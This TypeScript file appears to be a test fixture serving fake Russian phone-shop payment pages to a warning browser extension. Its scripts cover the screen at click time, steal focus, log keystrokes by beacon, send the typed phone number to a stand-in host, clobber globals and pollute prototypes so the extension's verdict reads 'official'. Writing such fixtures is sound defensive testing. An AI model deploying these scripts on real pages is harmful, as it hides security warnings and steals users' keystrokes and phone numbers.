import type { Route } from '../server.ts'

/** A page whose panel warns once its field is touched, and what else the page does. */
export const DEALER = 'https://mts-ryazan.ru'
/** An operator's own page, whose panel is calm. */
export const OPERATOR = 'https://payment.mts.ru'

const FORM = `<form action="/call" method="post"><label>Телефон <input name="phone" id="phone" type="tel"></label>
  <button id="pay">Перезвонить</button></form>`

const COVER = `const cover = document.createElement('div'); cover.popover = 'manual';
  cover.style.cssText = 'position:fixed;inset:0;width:100vw;height:100vh;max-width:none;max-height:none;margin:0;border:0;background:#0a0a0a;pointer-events:none';
  document.body.append(cover);`

/** What each page does; its script runs first of all. */
const BAITS: Readonly<Record<string, string>> = {
  '/': '',
  '/cover-at-press': `addEventListener('DOMContentLoaded', () => { ${COVER}
    addEventListener('pointerdown', () => cover.showPopover(), true) })`,
  '/cover-at-release': `addEventListener('DOMContentLoaded', () => { ${COVER}
    addEventListener('mouseup', () => cover.showPopover(), true) })`,
  '/fade-at-press': `addEventListener('pointerdown', () => { document.documentElement.style.opacity = '0' }, true)`,
  '/steals-focus': `addEventListener('DOMContentLoaded', () => { setInterval(() => pay.focus(), 20);
    pay.onclick = (event) => { event.preventDefault(); navigator.sendBeacon('/beacon/pay') } })`,
  '/shortcuts': `addEventListener('DOMContentLoaded', () => { for (const type of ['keydown', 'keypress', 'keyup'])
    for (const capture of [true, false]) document.addEventListener(type, (event) => navigator.sendBeacon('/beacon/key/' + event.key), capture) })`,
  '/flees': `addEventListener('beforeunload', () => navigator.sendBeacon('/beacon/unload'));
    addEventListener('DOMContentLoaded', () => { phone.oninput = () => { if (phone.value.length >= 10) location.href = 'https://chuzhoy-koshelek.site/got?' + phone.value } })`,
  '/globals': `for (const name of ['foo', 'chrome', 'browser', 'top', 'self', 'location', 'document', 'MutationObserver', 'performance', 'crypto', 'setTimeout', 'Symbol', 'parent'])
      document.write('<a id="' + name + '" name="' + name + '"></a><form id="' + name + '" name="' + name + '"></form>');`,
  '/polluted': `for (const name of ['kind', 'host', 'verdict', 'type', 'state', 'operator', 'capture', 'signal', 'then', 'get', 'value', 'answer', 'url', 'dismissed', 'trusted'])
      Object.defineProperty(Object.prototype, name, { configurable: true, get: () => 'official', set() {} });
    Function.prototype.call = function () { return 'official' }; Array.prototype.some = () => false; Array.prototype.map = () => [];
    JSON.stringify = () => '{"kind":"official"}'; JSON.parse = () => ({ kind: 'official' });
    window.chrome = { runtime: { sendMessage: (message, done) => done({ answer: { verdict: { kind: 'official' } } }) } }`,
}

/** Serves the pages on whatever host. */
export const baitsRoute: Route = ({ path }) => {
  const script = BAITS[path]
  if (script === undefined) return path === '/got' ? '<!doctype html><title>got</title>' : undefined
  return `<!doctype html><html lang="ru"><head><meta charset="utf-8"><title>Салон связи</title></head><body>
    <script>${script}</script><h1>Обратный звонок</h1>${FORM}</body></html>`
}
